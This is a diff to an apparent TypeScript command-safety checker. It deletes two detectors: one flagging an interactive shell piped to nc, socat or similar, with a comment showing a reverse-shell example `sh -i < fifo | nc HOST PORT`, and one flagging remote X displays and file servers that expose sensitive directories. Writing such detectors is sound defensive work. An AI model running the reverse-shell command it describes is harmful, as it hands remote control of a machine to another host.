@@ -10,8 +10,7 @@ import type { Finding, LineView } from "./judges.js";
 import { optionAt, optionValue, upstream, type SimpleCommand } from "./model.js";
 import { absolutePath, classifyPath, within } from "./paths.js";
 import * as table from "./rules/fetch.js";
-import { FILE_SERVERS, X_TERMINALS } from "./rules/access.js";
-import { basename, isShell, type Invocation } from "./unwrap.js";
+import { basename, type Invocation } from "./unwrap.js";
 import { hostOf, literalWord, type Word } from "./words.js";
 
 type CodeKey = Extract<ClassKey, "remote_code_exec" | "decoded_code_exec">;
@@ -244,28 +243,6 @@ function powershell(inv: Invocation): CodeKey | undefined {
   return runs.test(text) && downloads.test(text) ? "remote_code_exec" : undefined;
 }
 
-/** `sh -i < fifo | nc HOST PORT`: an interactive shell whose input and output travel over a socket. */
-function shellToSocket(inv: Invocation): Finding | undefined {
-  const interactiveShell = (c: SimpleCommand) =>
-    isShell(programOf(c)) && c.argv.some((w) => /^-[a-z]*i[a-z]*$/.test(w.text));
-  if (/^(nc|ncat|netcat|socat|telnet|openssl)$/.test(inv.program) && upstream(inv.command).some(interactiveShell))
-    return { key: "remote_access", reason: `an interactive shell piped to ${inv.program}` };
-}
-
-/** A terminal shown on another machine's display, or a file server of a directory the task does not own. */
-function opensAccess(inv: Invocation, view: LineView): Finding | undefined {
-  const display = inv.command.env.get("DISPLAY")?.text;
-  if (display && X_TERMINALS.test(inv.program) && !/^(:|localhost:|127\.|unix:)/.test(display))
-    return { key: "remote_access", reason: `${inv.program} on the display ${display}` };
-  const t = texts(inv.args);
-  const server = FILE_SERVERS[inv.program.replace(/[\d.]+$/, "")];
-  if (!server?.serves.test(t.join(" ")) || server.local.test(t.join(" "))) return undefined;
-  const dir = optionValue(t, server.dir) ?? ".";
-  const where = classifyPath(literalWord(dir), view.ctx);
-  if (!/^(system|home|home-secret|ssh)$/.test(where)) return undefined;
-  return { key: "remote_access", reason: `${inv.program} serves ${dir} to the network` };
-}
-
 /** Code run from what fetched or decoded it, or from a substitution an interpreter reads as its script. */
 function runsComputed(inv: Invocation, view: LineView, st: FetchState): Finding | undefined {
   const runs = syntaxCheckOnly(inv) ? undefined : (runsFetched(inv, view, st) ?? powershell(inv));
@@ -288,15 +265,9 @@ export const syntaxCheckOnly = (inv: Invocation) =>
 export function judgeFetchedCode(inv: Invocation, view: LineView): Finding[] {
   const st = stateOf(view);
   const script = table.SCRIPT_INTERPRETERS.test(inv.program) ? scriptArg(inv.args) : undefined;
-  const out = [
-    shellToSocket(inv),
-    opensAccess(inv, view),
-    runsComputed(inv, view, st),
-    installsFromUntrusted(inv)
-      ? { key: "remote_code_exec" as const, reason: `${inv.program} installs from an untrusted source` }
-      : undefined,
-    configuredShell(inv, view),
-  ];
+  const out = [runsComputed(inv, view, st), configuredShell(inv, view)];
+  if (installsFromUntrusted(inv))
+    out.push({ key: "remote_code_exec", reason: `${inv.program} installs from an untrusted source` });
   if (script && !script.literal && script.text.startsWith("<("))
     out.push({ key: "shell_input", reason: `${inv.program} runs the output of ${script.text}` });
   out.push(elevatedCodePath(inv, view));
